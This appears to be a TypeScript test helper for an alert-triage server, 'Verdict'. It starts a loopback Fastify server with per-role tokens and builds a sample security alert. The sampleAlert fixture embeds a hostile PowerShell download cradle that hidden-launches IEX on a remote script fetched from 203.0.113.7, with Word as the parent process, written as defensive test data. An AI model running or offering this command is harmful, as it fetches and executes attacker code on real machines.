import type { FastifyInstance } from 'fastify';
import { VerdictConfigSchema } from '../../core/config/config-schema.js';
import type { LoadedConfig } from '../../core/config/load-config.js';
import { createRuntime, type VerdictRuntime } from '../../core/runtime/runtime.js';
import { createServer } from '../../core/server/create-server.js';
import type { ServerOptions } from '../../core/server/server-context.js';
import { issueToken } from '../../core/server/tokens.js';
import { createSqliteRepository } from '../../core/store/sqlite-store.js';
import type { TokenScope, VerdictRepository } from '../../core/store/repository.js';
import type { PlatformPluginV1 } from '../../core/spec/plugin.js';

export interface TestServer {
  baseUrl: string;
  runtime: VerdictRuntime;
  server: FastifyInstance;
  /** Bearer values by holder: each name below holds one token with the scopes in its name. */
  tokens: Record<'triage' | 'feedback' | 'approver' | 'otherApprover' | 'admin', string>;
  /** Every JSON log line the server wrote. */
  logs: string[];
  request(
    method: string,
    path: string,
    init?: { token?: string; body?: unknown; rawBody?: string; headers?: Record<string, string> },
  ): Promise<{ status: number; headers: Headers; json: any; text: string }>;
  close(): Promise<void>;
}

/** A server on a random loopback port over a fresh in-memory SQLite store, with one token per role; `wiring.plugins` as `verdict serve` wires them. */
export async function startTestServer(
  options: Partial<ServerOptions> = {},
  config: unknown = {},
  wiring: { plugins?: readonly PlatformPluginV1[]; repository?: VerdictRepository } = {},
): Promise<TestServer> {
  const loaded: LoadedConfig = { config: VerdictConfigSchema.parse(config), baseDir: process.cwd(), file: undefined, home: process.cwd() };
  const plugins = wiring.plugins ?? [];
  const runtime = await createRuntime(loaded, { repository: wiring.repository ?? createSqliteRepository(':memory:'), plugins });
  const logs: string[] = [];
  const server = createServer({ runtime, plugins, options: { logLevel: 'info', logStream: { write: (line: string) => void logs.push(line) }, ...options } });
  const holders: Array<[keyof TestServer['tokens'], string, TokenScope[]]> = [
    ['triage', 'soar-playbook', ['triage']],
    ['feedback', 'splunk-feedback', ['feedback']],
    ['approver', 'alice', ['approve', 'triage']],
    ['otherApprover', 'bob', ['approve']],
    ['admin', 'root', ['admin']],
  ];
  const tokens = {} as TestServer['tokens'];
  for (const [key, name, scopes] of holders) {
    const issued = issueToken({ name, scopes });
    await runtime.repository.createToken(issued.token);
    tokens[key] = issued.bearer;
  }
  await server.listen({ host: '127.0.0.1', port: 0 });
  const address = server.server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  const baseUrl = `http://127.0.0.1:${port}`;
  return {
    baseUrl,
    runtime,
    server,
    tokens,
    logs,
    async request(method, path, init = {}) {
      const headers: Record<string, string> = { ...init.headers };
      if (init.token) headers.authorization = `Bearer ${init.token}`;
      let body: string | undefined = init.rawBody;
      if (init.body !== undefined) {
        body = JSON.stringify(init.body);
        headers['content-type'] ??= 'application/json';
      }
      const response = await fetch(`${baseUrl}${path}`, { method, headers, ...(body !== undefined ? { body } : {}) });
      const text = await response.text();
      let json: unknown;
      try {
        json = JSON.parse(text);
      } catch {
        json = undefined; // Not every answer is JSON (/metrics); tests read `text` then.
      }
      return { status: response.status, headers: response.headers, json, text };
    },
    async close() {
      await server.close();
      await runtime.close();
    },
  };
}

/** A Verdict-format alert; `overrides` change any field. */
export function sampleAlert(id: string, overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id,
    source: { platform: 'verdict', product: 'Sysmon' },
    title: 'Suspicious PowerShell download cradle',
    ruleName: 'PowerShell download cradle',
    severity: 'high',
    time: '2026-03-01T10:00:00.000Z',
    entities: [
      { kind: 'host', value: 'web01', role: 'target' },
      { kind: 'user', value: 'alice', role: 'actor' },
      {
        kind: 'process',
        value: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
        role: 'actor',
        properties: {
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
          parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
        },
      },
    ],
    ...overrides,
  };
}

/** Every action needs approval, so any verdict queues some (the default policy queues none for inconclusive). */
export const APPROVE_EVERYTHING = { policy: { approvalRules: [{ name: 'test-everything-needs-approval', requiresApproval: true }] } };
